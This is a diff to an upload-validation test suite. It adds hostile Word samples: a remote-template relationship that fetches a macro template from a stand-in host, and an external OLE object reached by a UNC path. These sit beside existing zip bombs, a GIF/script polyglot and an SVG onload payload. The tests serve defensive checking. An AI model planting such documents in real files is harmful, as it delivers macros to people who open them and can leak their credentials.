@@ -48,6 +48,29 @@ def _zip_bomb() -> bytes:
     return out.getvalue()
 
 
+def _word(relations: str) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<document/>")
+        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relations}</Relationships>")
+    return out.getvalue()
+
+
+KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _remote_template() -> bytes:
+    """Opens a template with macros from elsewhere, as soon as an officer opens it."""
+    return _word(
+        f'<Relationship Id="r" Type="{KIND}/attachedTemplate" Target="http://ke-xau.example/x.dotm" TargetMode="External"/>'
+    )
+
+
+def _remote_object() -> bytes:
+    return _word(f'<Relationship TargetMode="External" Target="\\\\ke-xau\\x" Type="{KIND}/oleObject" Id="r"/>')
+
+
 def _gif_with_script() -> bytes:
     return b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"
 
@@ -59,6 +82,8 @@ def _pdf_with_page(data: bytes = b"") -> bytes:
 HOSTILE = {
     "png-bomb.png": _png_bomb,
     "zip-bomb.docx": _zip_bomb,
+    "template.docx": _remote_template,
+    "object.docx": _remote_object,
     "gif.jpg": _gif_with_script,
     "html.pdf": _pdf_with_page,
     "svg.jpg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
@@ -116,6 +141,22 @@ def test_a_strange_length_is_no_failure(client, length):
 def test_a_thousand_fields_too_many_are_no_failure(client):
     answer = client.post("/tra-cuu", {f"f{n}": "x" for n in range(2_000)})
     assert answer.status_code == 400
+
+
+def test_a_word_file_with_a_link_is_kept(walker):
+    link = _word(f'<Relationship Id="r" Type="{KIND}/hyperlink" Target="https://vidu.vn" TargetMode="External"/>')
+    answer = walker.client.post(walker.address, {"tep": SimpleUploadedFile("don.docx", link), "them": "1"})
+    assert answer.status_code == 302, problems(answer)
+
+
+def test_what_was_sent_is_nobody_elses_on_the_machine(walker, settings):
+    from pathlib import Path
+
+    walker.client.post(walker.address, {"tep": photo(), "them": "1"})
+    key = StoredFile.objects.get().key.hex
+    path = Path(settings.VAR) / "files" / key[:2] / key
+    assert path.stat().st_mode & 0o077 == 0
+    assert path.parent.stat().st_mode & 0o077 == 0
 
 
 def test_a_name_runs_nowhere(walker):
